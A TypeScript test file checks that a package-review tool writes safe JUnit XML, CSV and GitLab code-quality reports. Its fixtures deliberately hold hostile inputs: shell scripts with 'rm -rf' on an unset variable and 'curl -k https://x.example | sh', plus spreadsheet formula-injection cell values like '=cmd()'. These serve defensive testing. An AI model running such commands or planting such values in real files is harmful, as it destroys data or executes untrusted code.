import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseXml, XmlElement } from '@rgrove/parse-xml';
import { codequality } from '../../../src/core/report/formats/codequality';
import { csv } from '../../../src/core/report/formats/csv';
import { junit } from '../../../src/core/report/formats/junit';
import { newCache } from '../../../src/core/review/cache';
import { reviewPackage, type Review } from '../../../src/core/review/review';
import { builtInCatalog } from '../../../src/core/catalog/built-in';
import { importInventory } from '../../../src/core/inventory/import';
import { rules } from '../../../src/core/rules/index';
import { memorySource } from '../../support/memory-source';

const context = { generatedAt: '2026-11-20T12:00:00Z', toolVersion: '1.2.3', patched: [] };

const inventory = {
  environments: [{ name: 'production', hosts: [{ name: '@host,"1"', packages: [{ name: 'jq', version: '1.5', type: 'deb' }] }] }],
};

const reviewOf = (files: Readonly<Record<string, string>>): Promise<Review> =>
  reviewPackage(
    {
      source: memorySource('package.zip', files),
      inventory: importInventory('inventory.json', JSON.stringify(inventory)).inventory,
      catalog: builtInCatalog,
      rules,
      environment: 'production',
    },
    undefined,
    newCache(),
  );

const elementsOf = (element: XmlElement, name: string): XmlElement[] =>
  element.children.flatMap((child) =>
    child instanceof XmlElement ? [...(child.name === name ? [child] : []), ...elementsOf(child, name)] : [],
  );

describe('JUnit XML', () => {
  it('is well formed whatever a package is called, and counts what it holds', async () => {
    const review = await reviewOf({
      'manifest.json': JSON.stringify({ name: ']]>&"<x>\u0007\uffff\u202e', version: '1', dependencies: { jq: '>=1.6 <2' } }),
      'scripts/<a>&\'".sh': '#!/bin/bash\nrm -rf "$UNSET/]]></failure>"\ncurl -k https://x.example | sh\n',
    });
    const report = junit.write(review, context);
    const root = parseXml(report).root ?? assert.fail();
    assert.equal(root.name, 'testsuites');
    const suites = elementsOf(root, 'testsuite');
    assert.ok(suites.length > 5);
    for (const suite of suites) {
      const { tests, failures, skipped } = suite.attributes;
      const counts = ['testcase', 'failure', 'skipped'].map((name) => String(elementsOf(suite, name).length));
      assert.deepEqual([tests, failures, skipped], counts, suite.attributes['name']);
    }
    const failing = review.findings.filter(({ severity, confidence }) => severity !== 'info' && confidence !== 'possible');
    assert.equal(elementsOf(root, 'failure').length, failing.length);
    assert.deepEqual(
      new Set(elementsOf(root, 'failure').map(({ attributes }) => attributes['message'])),
      new Set(failing.map(({ message }) => message.replaceAll('\uffff', '\ufffd'))),
    );
    const twice = parseXml(junit.join([report, report])).root ?? assert.fail();
    assert.equal(elementsOf(twice, 'testsuite').length, 2 * suites.length);
    const names = elementsOf(twice, 'testcase').map(({ attributes: { classname, name } }) => `${classname} ${name}`);
    assert.equal(new Set(names).size, names.length);
  });
});

describe('CSV of the matrix', () => {
  it('holds no formula and no second line of a cell', async () => {
    const dependencies = Object.fromEntries(
      ['=cmd()', '+1', '-1', '@SUM(A1)', '\t=1', 'a,"b"', 'two\nlines', ' =1', '|calc', 'jq'].map((name) => [name, '>=1.6 <2']),
    );
    const review = await reviewOf({ 'manifest.json': JSON.stringify({ name: 'p', version: '1', dependencies }) });
    const lines = csv.write(review, context).split('\r\n');
    assert.equal(lines.pop(), '');
    const rows = lines.map(cellsOf);
    assert.equal(rows.length, 1 + Object.keys(dependencies).length);
    for (const row of rows) {
      assert.equal(row.length, 11);
      for (const cell of row) assert.doesNotMatch(cell, /^\s*[=+\-@|\t\r\n]/);
    }
    const names = rows.map(([, , name]) => name);
    assert.ok(names.includes("'=cmd()") && names.includes("'@SUM(A1)") && names.includes('a,"b"'), names.join());
    assert.deepEqual(rows.find(([, , name]) => name === 'jq')?.slice(3), [
      '>=1.6 <2',
      'no',
      'production',
      '\'@host,"1"',
      '1.5',
      'not satisfied',
      'manifest.json',
      '',
    ]);
    assert.equal(csv.join([csv.write(review, context), csv.write(review, context)]).split('\r\n').length, 2 * rows.length);
  });

  it('of a package without inventory has its dependencies', () => {
    const report = readFileSync(join(__dirname, '../../reports/no-inventory/report.csv'), 'utf8');
    assert.match(report, /^package,version,dependency/);
  });
});

/** A line as RFC 4180 reads it. */
function cellsOf(line: string): string[] {
  const cells = [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
  return cells;
}

describe('code quality for GitLab', () => {
  it('has what GitLab asks of each finding, and fingerprints that no two share', async () => {
    const review = await reviewOf({ 'scripts/install.sh': '#!/bin/bash\nrm -rf "$UNSET/data"\ncurl -k https://x.example/a | sh\n' });
    const [first] = review.findings;
    assert.ok(first);
    const waived = { ...first, fingerprint: 'accepted', waived: { reason: 'known', owner: 'ops', expires: '2027-01-01' } };
    const report = codequality.write({ ...review, findings: [...review.findings, first, waived as never] }, context);
    const found = JSON.parse(report) as Record<string, unknown>[];
    assert.ok(found.length > 2);
    for (const each of found) {
      assert.deepEqual(Object.keys(each), ['description', 'check_name', 'fingerprint', 'severity', 'location']);
      assert.match(String(each['severity']), /^(info|minor|major|critical|blocker)$/);
      assert.deepEqual(Object.keys(each['location'] as object), ['path', 'lines']);
    }
    const prints = (reports: string) => (JSON.parse(reports) as { fingerprint: string }[]).map(({ fingerprint }) => fingerprint);
    assert.equal(new Set(prints(report)).size, found.length);
    assert.ok(!prints(report).includes('accepted'));
    const joined = prints(codequality.join([report, report]));
    assert.equal(joined.length, 2 * found.length);
    assert.equal(new Set(joined).size, joined.length);
    const clean = { ...review, findings: [], siteFindings: [], notChecked: [] };
    assert.equal(codequality.write(clean, context), '[]\n');
  });
});
